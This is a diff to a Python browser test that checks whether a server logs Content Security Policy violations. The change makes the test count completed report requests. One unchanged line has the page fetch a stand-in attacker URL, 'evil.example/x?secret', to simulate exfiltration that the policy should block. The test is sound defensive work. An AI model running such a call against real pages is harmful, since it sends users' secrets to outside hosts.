@@ -184,10 +184,12 @@ def test_what_breaks_the_policy_is_in_the_log_of_the_server(program: Any, contex
     running = program(None, "--token", TOKEN)
     watched = Watched(context.new_page(), running.address)
     base = running.address.partition("#")[0]
+    answered: list[str] = []
+    watched.page.on("requestfinished", lambda request: answered.append(request.url))
 
     watched.page.evaluate(BREAK)
     watched.page.evaluate("fetch('https://evil.example/x?secret').catch(() => null)")
-    wait_for(watched.page, lambda: watched.requests.count(f"{base}api/csp-reports") >= 5)
+    wait_for(watched.page, lambda: answered.count(f"{base}api/csp-reports") >= 5)
     running.end()
 
     told = [line.partition(" broken: ")[2] for line in running.log.splitlines() if "policy was broken" in line]
